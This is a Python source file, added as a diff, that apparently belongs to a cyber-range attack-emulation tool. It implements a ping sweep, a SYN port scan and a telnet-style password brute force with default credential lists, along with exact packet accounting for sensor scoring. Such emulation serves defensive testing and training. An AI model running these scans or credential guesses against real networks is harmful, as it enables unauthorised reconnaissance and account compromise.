@@ -1,0 +1,605 @@
+"""Attack techniques, run inside the actor's network namespace by ``cyberrange.attack.agent``.
+
+Each technique takes its targets (already checked by the containment guard), its parameters
+(catalog defaults filled in) and returns a :class:`Result`: an outcome, the facts it learned and
+the exact IPv4 packets it sent, per 5-tuple (the ledger's ``flows``). Sensors capture the same
+packets; scoring and the tests compare the two counts per 5-tuple, so the accounting below is
+exact, not an estimate (byte counts of kernel TCP connections are the one documented estimate).
+
+- ``T1018`` ping sweep and ``T1046`` SYN scan craft frames with scapy: addresses are resolved once
+  (one batched ARP exchange), every frame is built up front and its bytes are written through ONE
+  reused layer-2 socket, paced at ``rate``; a sniffer on the same interface collects answers.
+- ``T1110.001`` password guessing uses real kernel TCP connections (a login needs a real TCP
+  stream); the kernel's own segment counter (TCP_INFO ``tcpi_segs_out``) gives the exact count.
+
+See docs/techniques.md.
+"""
+from __future__ import annotations
+
+import errno
+import ipaddress
+import random
+import select
+import socket
+import struct
+import threading
+import time
+from dataclasses import dataclass, field
+
+
+# --------------------------------------------------------------------------- results and flows
+@dataclass
+class Result:
+    outcome: str = "failed"                 # succeeded | failed | blocked | error
+    start: float = 0.0
+    end: float = 0.0
+    flows: list[dict] = field(default_factory=list)
+    facts: dict = field(default_factory=dict)
+    error: str | None = None
+    log: list[str] = field(default_factory=list)
+
+    def to_dict(self) -> dict:
+        return {"outcome": self.outcome, "start": self.start, "end": self.end,
+                "flows": merge_flows(self.flows), "facts": self.facts, "error": self.error,
+                "log": self.log}
+
+
+def flow(src, dst, proto, sport, dport, packets, nbytes) -> dict:
+    return {"src": str(src), "dst": str(dst), "proto": proto, "sport": int(sport),
+            "dport": int(dport), "packets": int(packets), "bytes": int(nbytes)}
+
+
+def merge_flows(flows: list[dict]) -> list[dict]:
+    """One entry per 5-tuple (sums), in first-seen order; drops zero-packet flows."""
+    out: dict[tuple, dict] = {}
+    for f in flows:
+        key = (f["src"], f["dst"], f["proto"], f["sport"], f["dport"])
+        if key in out:
+            out[key]["packets"] += f["packets"]
+            out[key]["bytes"] += f["bytes"]
+        else:
+            out[key] = dict(f)
+    return [f for f in out.values() if f["packets"] > 0]
+
+
+# --------------------------------------------------------------------------- layer-2 plumbing
+@dataclass
+class Hop:
+    """How one target is reached from the actor: out of ``iface`` from ``src``, via ``gw``."""
+    ip: str
+    iface: str
+    src: str
+    gw: str | None              # None: on-link (ARP for the target itself)
+
+    @property
+    def next_hop(self) -> str:
+        return self.gw or self.ip
+
+
+def route_targets(ips: list[str], log: list[str]) -> list[Hop]:
+    """Look every target up in the namespace's routing table (scapy's copy of it)."""
+    from scapy.config import conf
+    conf.route.resync()
+    hops = []
+    for ip in ips:
+        iface, src, gw = conf.route.route(ip, verbose=0)
+        iface = getattr(iface, "name", iface)
+        if not src or src == "0.0.0.0" or iface in ("lo", conf.loopback_name):
+            log.append(f"{ip}: no route from the actor; nothing sent")
+            continue
+        if ip == src:
+            log.append(f"{ip}: is the actor's own address; skipped")
+            continue
+        hops.append(Hop(ip, iface, src, None if gw in (None, "0.0.0.0") else gw))
+    return hops
+
+
+def arp_resolve(iface: str, src_ip: str, ips: list[str], timeout: float) -> dict[str, str]:
+    """One batched ARP request/response exchange: {ip: mac} for the ips that answered."""
+    from scapy.layers.l2 import ARP, Ether
+    from scapy.arch import get_if_hwaddr
+    from scapy.sendrecv import srp
+    if not ips:
+        return {}
+    mac = get_if_hwaddr(iface)
+    reqs = [Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=mac, psrc=src_ip, pdst=ip)
+            for ip in ips]
+    ans, _ = srp(reqs, iface=iface, timeout=timeout, verbose=0)
+    return {r[ARP].psrc: r[ARP].hwsrc for _s, r in ans if r[ARP].psrc in set(ips)}
+
+
+def resolve_hops(hops: list[Hop], timeout: float, log: list[str]) -> dict[str, dict[str, str]]:
+    """{iface: {next-hop ip: mac}}: one ARP batch per interface (on-link targets + gateways)."""
+    macs = {}
+    for iface in sorted({h.iface for h in hops}):
+        on_iface = [h for h in hops if h.iface == iface]
+        wanted = list(dict.fromkeys(h.next_hop for h in on_iface))
+        found = arp_resolve(iface, on_iface[0].src, wanted, timeout)
+        for gw in sorted({h.gw for h in on_iface if h.gw}):
+            if gw not in found:
+                log.append(f"gateway {gw} on {iface} did not answer ARP; off-link targets skipped")
+        macs[iface] = found
+    return macs
+
+
+ETH_P_IP = 0x0800
+PACKET_OUTGOING = 4
+SOL_PACKET, PACKET_STATISTICS = 263, 6
+SO_RCVBUFFORCE = 33
+
+
+class Receiver(threading.Thread):
+    """Collects the IPv4 frames addressed to ``dst_ip`` on ``iface`` (a PF_PACKET socket with a
+    large buffer, headers parsed by hand: scapy's dissector cannot keep up with thousands of
+    answers per second, and a missed SYN-ACK would be a kernel RST missing from the ledger).
+
+    ``on_ip(src, proto, l4)`` gets the source address, the IP protocol and the bytes after the
+    IP header. ``drops`` is the kernel's count of frames this socket lost (should stay 0)."""
+
+    def __init__(self, iface: str, dst_ip: str, on_ip):
+        super().__init__(daemon=True)
+        self.on_ip, self.dst = on_ip, socket.inet_aton(dst_ip)
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
+        try:
+            self.sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
+        except OSError:
+            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
+        self.sock.bind((iface, ETH_P_IP))
+        self.sock.settimeout(0.05)
+        self._stop_flag = threading.Event()
+        self.drops = 0
+        self.start()
+
+    def run(self) -> None:
+        sock = self.sock
+        while True:
+            try:
+                frame, addr = sock.recvfrom(2048)
+            except (socket.timeout, BlockingIOError):
+                if self._stop_flag.is_set():
+                    return                  # stop asked and the buffer is drained
+                continue
+            except OSError:
+                return
+            if addr[2] == PACKET_OUTGOING or len(frame) < 34:
+                continue
+            ip = memoryview(frame)[14:]
+            if ip[0] >> 4 != 4 or bytes(ip[16:20]) != self.dst:
+                continue
+            ihl = (ip[0] & 0x0F) * 4
+            try:
+                self.on_ip(socket.inet_ntoa(bytes(ip[12:16])), ip[9], bytes(ip[ihl:ihl + 64]))
+            except Exception:               # noqa: BLE001 - one odd frame must not stop us
+                pass
+
+    def stop(self) -> None:
+        self._stop_flag.set()
+        self.join(10)
+        try:
+            raw = self.sock.getsockopt(SOL_PACKET, PACKET_STATISTICS, 8)
+            self.drops = struct.unpack("II", raw)[1]
+        except OSError:
+            pass
+        self.sock.close()
+
+
+class L2Session:
+    """A receiver plus one reused scapy layer-2 socket (PF_PACKET) on one interface."""
+
+    def __init__(self, iface: str, src_ip: str, on_ip):
+        from scapy.config import conf
+        self.iface = iface
+        self.receiver = Receiver(iface, src_ip, on_ip)
+        self.sock = conf.L2socket(iface=iface)
+
+    def send(self, frame: bytes) -> None:
+        self.sock.send(frame)
+
+    def close(self) -> int:
+        """Close; returns the number of received frames the kernel dropped."""
+        try:
+            self.sock.close()
+        finally:
+            self.receiver.stop()
+        return self.receiver.drops
+
+
+def paced_send(sessions: dict[str, L2Session], frames: list[tuple[str, bytes]], rate: float,
+               log: list[str]) -> None:
+    """Write each (iface, frame) at ``rate`` frames per second (absolute schedule, no drift)."""
+    interval = 1.0 / rate if rate and rate > 0 else 0.0
+    t0 = time.monotonic()
+    for i, (iface, frame) in enumerate(frames):
+        due = t0 + i * interval
+        delay = due - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        sessions[iface].send(frame)
+    took = time.monotonic() - t0
+    if frames:
+        achieved = len(frames) / took if took > 0 else float("inf")
+        log.append(f"sent {len(frames)} frames in {took:.3f}s ({achieved:.0f}/s, asked {rate}/s)")
+
+
+def _frames_for(hops, macs, build, log):
+    """[(hop, iface, frame bytes)] for hops whose next hop resolved; logs the others."""
+    from scapy.arch import get_if_hwaddr
+    my_mac = {}
+    out, unresolved = [], []
+    for n, h in enumerate(hops):
+        mac = macs.get(h.iface, {}).get(h.next_hop)
+        if mac is None:
+            if h.gw is None:
+                unresolved.append(h.ip)
+            continue
+        if h.iface not in my_mac:
+            my_mac[h.iface] = get_if_hwaddr(h.iface)
+        out.append((h, h.iface, build(n, h, my_mac[h.iface], mac)))
+    if unresolved:
+        log.append(f"{len(unresolved)} on-link targets did not answer ARP (only ARP sent): "
+                   + _short(unresolved))
+    return out
+
+
+def _short(items: list[str], n: int = 8) -> str:
+    return ", ".join(items[:n]) + (f" and {len(items) - n} more" if len(items) > n else "")
+
+
+# --------------------------------------------------------------------------- T1018 ping sweep
+def ping_sweep(targets: list[str], params: dict) -> Result:
+    from scapy.layers.inet import ICMP, IP
+    from scapy.layers.l2 import Ether
+    res = Result(start=time.time())
+    timeout = float(params.get("timeout", 1.0))
+    rate = float(params.get("rate", 500))
+    hops = route_targets(_unique_ips(targets), res.log)
+    macs = resolve_hops(hops, timeout, res.log)
+    icmp_id = random.randint(1, 0xFFFF)
+
+    def build(n, h, src_mac, dst_mac):
+        return bytes(Ether(src=src_mac, dst=dst_mac)
+                     / IP(src=h.src, dst=h.ip, id=random.randint(0, 0xFFFF), ttl=64)
+                     / ICMP(type=8, code=0, id=icmp_id, seq=(n + 1) & 0xFFFF))
+    frames = _frames_for(hops, macs, build, res.log)
+
+    wanted = {h.ip for h, _i, _f in frames}
+    replied: set[str] = set()
+
+    def on_ip(src, proto, l4):
+        # ICMP echo reply (type 0) carrying our identifier
+        if proto == 1 and l4[0] == 0 and src in wanted and struct.unpack("!H", l4[4:6])[0] == icmp_id:
+            replied.add(src)
+
+    _run_l2(frames, rate, timeout, on_ip, res.log)
+    res.flows = [flow(h.src, h.ip, "icmp", 8, 0, 1, len(f)) for h, _i, f in frames]
+    res.facts = {"hosts": [h.ip for h in hops if h.ip in replied]}
+    via_gw = any(h.gw for h, _i, _f in frames)
+    res.outcome = "succeeded" if replied else ("blocked" if via_gw else "failed")
+    res.end = time.time()
+    return res
+
+
+def _run_l2(frames, rate, timeout, on_ip, log) -> None:
+    """Open sessions on the interfaces used, send paced, wait ``timeout``, close."""
+    if not frames:
+        return
+    sessions: dict[str, L2Session] = {}
+    try:
+        for h, iface, _f in frames:
+            if iface not in sessions:
+                sessions[iface] = L2Session(iface, h.src, on_ip)
+        paced_send(sessions, [(i, f) for _h, i, f in frames], rate, log)
+        time.sleep(timeout)
+    finally:
+        for iface, sess in sessions.items():
+            drops = sess.close()
+            if drops:
+                log.append(f"WARNING: the receiver on {iface} lost {drops} frames; answers (and "
+                           f"the kernel RSTs they cause) may be missing from the counts; "
+                           f"lower the rate")
+
+
+# --------------------------------------------------------------------------- T1046 SYN scan
+# The actor's kernel has no socket on the scan's source port, so it answers every SYN-ACK with
+# one RST (Ether 14 + IP 20 + TCP 20, no options). The ledger counts it: it is the actor's packet.
+KERNEL_RST_FRAME_BYTES = 54
+
+
+def syn_scan(targets: list[str], params: dict) -> Result:
+    from scapy.layers.inet import ICMP, IP, TCP
+    from scapy.layers.l2 import Ether
+    res = Result(start=time.time())
+    timeout = float(params.get("timeout", 1.0))
+    rate = float(params.get("rate", 500))
+    ports = [int(p) for p in params.get("ports", [22, 80, 443])]
+    hops = route_targets(_unique_ips(targets), res.log)
+    macs = resolve_hops(hops, timeout, res.log)
+    sport = random.randint(40000, 60999)
+    probes = [(h, p) for h in hops for p in ports]
+
+    def build(n, hp, src_mac, dst_mac):
+        h, port = hp
+        return bytes(Ether(src=src_mac, dst=dst_mac)
+                     / IP(src=h.src, dst=h.ip, id=random.randint(0, 0xFFFF), ttl=64)
+                     / TCP(sport=sport, dport=port, flags="S", seq=random.getrandbits(32),
+                           window=1024, options=[("MSS", 1460)]))
+
+    frames = []
+    for n, (h, port) in enumerate(probes):
+        mac = macs.get(h.iface, {}).get(h.next_hop)
+        if mac is None:
+            continue
+        frames.append((h, port))
+    if len(frames) < len(probes):
+        missing = sorted({h.ip for h, _p in probes} - {h.ip for h, _p in frames})
+        res.log.append(f"{len(missing)} targets did not answer ARP (only ARP sent): {_short(missing)}")
+    from scapy.arch import get_if_hwaddr
+    my_macs = {i: get_if_hwaddr(i) for i in {h.iface for h, _p in frames}}
+    built = [(h, h.iface, build(0, (h, p), my_macs[h.iface], macs[h.iface][h.next_hop]), p)
+             for h, p in frames]
+
+    wanted = {h.ip for h, _p in frames}
+    synacks: dict[tuple[str, int], int] = {}
+    rsts: dict[tuple[str, int], int] = {}
+    unreach: set[str] = set()
+    lock = threading.Lock()
+
+    def on_ip(src, proto, l4):
+        with lock:
+            if proto == 6 and src in wanted:
+                their_port, our_port = struct.unpack("!HH", l4[0:4])
+                if our_port != sport:
+                    return
+                flags = l4[13]
+                if flags & 0x12 == 0x12:
+                    synacks[(src, their_port)] = synacks.get((src, their_port), 0) + 1
+                elif flags & 0x04:
+                    rsts[(src, their_port)] = rsts.get((src, their_port), 0) + 1
+            elif proto == 1 and l4[0] == 3:
+                unreach.add(src)
+
+    _run_l2([(h, i, f) for h, i, f, _p in built], rate, timeout, on_ip, res.log)
+    res.log.append(f"source port {sport}; {len(synacks)} SYN-ACK 5-tuples, "
+                   f"{len(rsts)} RST, {len(unreach)} ICMP-unreachable senders")
+    for h, _i, f, port in built:
+        n_synack = synacks.get((h.ip, port), 0)
+        res.flows.append(flow(h.src, h.ip, "tcp", sport, port, 1 + n_synack,
+                              len(f) + n_synack * KERNEL_RST_FRAME_BYTES))
+    open_ = [f"{h.ip}:{p}" for h, _i, _f, p in built if (h.ip, p) in synacks]
+    res.facts = {"open": open_,
+                 "hosts": list(dict.fromkeys(o.rsplit(":", 1)[0] for o in open_))}
+    answered = bool(synacks or rsts)
+    via_gw = any(h.gw for h, _i, _f, _p in built)
+    if open_:
+        res.outcome = "succeeded"
+    elif not answered and built and (via_gw or unreach):
+        res.outcome = "blocked"
+    else:
+        res.outcome = "failed"
+    res.end = time.time()
+    return res
+
+
+# --------------------------------------------------------------------------- T1110.001 brute force
+TCP_ESTABLISHED, TCP_SYN_SENT, TCP_SYN_RECV, TCP_FIN_WAIT1, TCP_FIN_WAIT2 = 1, 2, 3, 4, 5
+TCP_CLOSE_WAIT = 8
+# States in which close() with SO_LINGER (1, 0) sends one RST (kernel tcp_need_reset()).
+RST_ON_ABORT = {TCP_ESTABLISHED, TCP_CLOSE_WAIT, TCP_FIN_WAIT1, TCP_FIN_WAIT2, TCP_SYN_RECV}
+TCPI_OPT_TIMESTAMPS = 1
+# struct tcp_info offsets (linux/tcp.h, stable ABI): state u8 @0, options u8 @5,
+# total_retrans u32 @100, segs_out u32 @136, bytes_sent u64 @200.
+_TCP_INFO_LEN = 232
+
+
+def tcp_info(sock: socket.socket) -> dict:
+    raw = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, _TCP_INFO_LEN)
+    info = {"state": raw[0], "options": raw[5],
+            "total_retrans": struct.unpack_from("I", raw, 100)[0],
+            "segs_out": struct.unpack_from("I", raw, 136)[0]}
+    info["bytes_sent"] = struct.unpack_from("Q", raw, 200)[0] if len(raw) >= 208 else None
+    return info
+
+
+def _sysctl(name: str, default: int) -> int:
+    try:
+        with open(f"/proc/sys/net/ipv4/{name}") as fh:
+            return int(fh.read().split()[0])
+    except (OSError, ValueError, IndexError):
+        return default
+
+
+def _syn_option_bytes() -> int:
+    """TCP option bytes in the kernel's SYN (MSS, SACK-permitted, timestamps, window scale)."""
+    ts, sack, ws = _sysctl("tcp_timestamps", 1), _sysctl("tcp_sack", 1), _sysctl("tcp_window_scaling", 1)
+    return 4 + (12 if ts else (4 if sack else 0)) + (4 if ws else 0)
+
+
+class Conn:
+    """One kernel TCP connection with exact packet accounting at close."""
+
+    def __init__(self, ip: str, port: int, connect_timeout: float, io_timeout: float):
+        self.ip, self.port, self.io_timeout = ip, port, io_timeout
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.sock.setblocking(False)
+        self.established = False
+        self.status = "connecting"
+        rc = self.sock.connect_ex((ip, port))
+        # the source port is bound as soon as connect() starts; read it now (a failed connect
+        # releases it, and the flow needs it)
+        self.src, self.sport = self.sock.getsockname()
+        if rc not in (0, errno.EINPROGRESS):
+            self.status = _conn_status(rc)
+            return
+        _r, w, _x = select.select([], [self.sock], [], connect_timeout)
+        if not w:
+            self.status = "timeout"
+            return
+        err = self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+        if err:
+            self.status = _conn_status(err)
+            return
+        self.established = True
+        self.status = "connected"
+        self.sock.setblocking(True)
+        self.sock.settimeout(io_timeout)
+        self.buf = b""
+        self.eof = False
+
+    def read_until(self, *markers: bytes) -> bytes | None:
+        """Read until one of ``markers`` is in the buffer (returns it), or None on EOF/timeout."""
+        while True:
+            for m in markers:
+                if m in self.buf:
+                    return m
+            if self.eof:
+                return None
+            try:
+                chunk = self.sock.recv(4096)
+            except (socket.timeout, OSError):
+                return None
+            if not chunk:
+                self.eof = True
+            self.buf += chunk
+
+    def wait_eof(self) -> bool:
+        while not self.eof:
+            try:
+                chunk = self.sock.recv(4096)
+            except (socket.timeout, OSError):
+                return False
+            if not chunk:
+                self.eof = True
+            self.buf += chunk
+        return True
+
+    def send(self, text: str) -> None:
+        self.sock.sendall(text.encode())
+
+    def close(self) -> dict:
+        """Abort (RST) and return this connection's flow: exact packets, estimated bytes."""
+        info = tcp_info(self.sock)
+        rst = 1 if info["state"] in RST_ON_ABORT else 0
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        self.sock.close()
+        segs = info["segs_out"] + rst
+        # bytes: headers (Ether+IP+TCP = 54 per segment) + TCP options + payload bytes sent
+        ts = bool(info["options"] & TCPI_OPT_TIMESTAMPS)
+        syns = 1 if self.established else info["segs_out"]
+        others = segs - syns
+        nbytes = segs * 54 + syns * _syn_option_bytes() + (others * 12 if ts else 0) \
+            + (info["bytes_sent"] or 0)
+        return flow(self.src, self.ip, "tcp", self.sport, self.port, segs, nbytes)
+
+
+def _conn_status(err: int) -> str:
+    if err == errno.ECONNREFUSED:
+        return "refused"
+    if err in (errno.ETIMEDOUT,):
+        return "timeout"
+    return "unreachable"
+
+
+def login_attempt(ip: str, port: int, user: str, password: str,
+                  connect_timeout: float = 2.5, io_timeout: float = 5.0) -> tuple[str, dict]:
+    """One guess. Returns (status, flow); status: ok | bad | not-login | refused | timeout |
+    unreachable."""
+    c = Conn(ip, port, connect_timeout, io_timeout)
+    status = c.status
+    try:
+        if c.established:
+            status = "not-login"
+            if c.read_until(b"login: "):
+                c.send(user + "\n")
+                if c.read_until(b"password: "):
+                    c.send(password + "\n")
+                    got = c.read_until(b"Welcome", b"Login incorrect")
+                    if got == b"Welcome":
+                        status = "ok"
+                        c.send("exit\n")
+                    elif got == b"Login incorrect":
+                        status = "bad"
+                    # the server closes first: wait for its FIN, then abort (one RST)
+                    c.wait_eof()
+    except OSError:
+        pass
+    return status, c.close()
+
+
+def brute_force(targets: list[str], params: dict) -> Result:
+    res = Result(start=time.time())
+    ports = [int(p) for p in params.get("ports", [22, 23, 2222])]
+    users = [str(u) for u in params.get("usernames", ["root", "admin"])]
+    passwords = [str(p) for p in params.get("passwords", ["password", "123456", "admin"])]
+    pause = float(params.get("pause", 0.05))
+    stop_on_success = bool(params.get("stop_on_success", True))
+    connect_timeout = float(params.get("connect_timeout", 2.5))  # between SYN RTOs 1 s and 3 s
+    io_timeout = float(params.get("io_timeout", 5.0))
+
+    services: list[tuple[str, int]] = []
+    for t in targets:
+        t = str(t)
+        if ":" in t:
+            ip, port = t.rsplit(":", 1)
+            if int(port) in ports:
+                services.append((ip, int(port)))
+            else:
+                res.log.append(f"{t}: port not in params.ports {ports}; skipped")
+        else:
+            services.extend((t, p) for p in ports)
+    services = list(dict.fromkeys(services))
+
+    creds, unreachable, attempts = [], 0, 0
+    first = True
+    for ip, port in services:
+        dead = False
+        for user in users:
+            if dead:
+                break
+            for pw in passwords:
+                if not first and pause > 0:
+                    time.sleep(pause)
+                first = False
+                status, fl = login_attempt(ip, port, user, pw, connect_timeout, io_timeout)
+                attempts += 1
+                res.flows.append(fl)
+                if status == "ok":
+                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
+                    if stop_on_success:
+                        break
+                elif status in ("refused", "timeout", "unreachable", "not-login"):
+                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
+                                   f"no further guesses at this service")
+                    if status != "not-login":
+                        unreachable += 1
+                    dead = True
+                    break
+    res.log.append(f"{attempts} attempts at {len(services)} services, {len(creds)} credentials")
+    res.facts = {"credentials": creds,
+                 "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
+    if creds:
+        res.outcome = "succeeded"
+    elif services and unreachable == len(services):
+        res.outcome = "blocked"
+    else:
+        res.outcome = "failed"
+    res.end = time.time()
+    return res
+
+
+# --------------------------------------------------------------------------- dispatch
+def _unique_ips(targets: list[str]) -> list[str]:
+    """Target strings (ip, ip:port or CIDR) -> unique IPs, in order."""
+    out = []
+    for t in map(str, targets):
+        if "/" in t:
+            out.extend(str(a) for a in ipaddress.IPv4Network(t, strict=False).hosts())
+        else:
+            out.append(str(ipaddress.IPv4Address(t.rsplit(":", 1)[0] if ":" in t else t)))
+    return list(dict.fromkeys(out))
+
+
+TECHNIQUE_FUNCS = {
+    "T1018": ping_sweep,
+    "T1046": syn_scan,
+    "T1110.001": brute_force,
+}
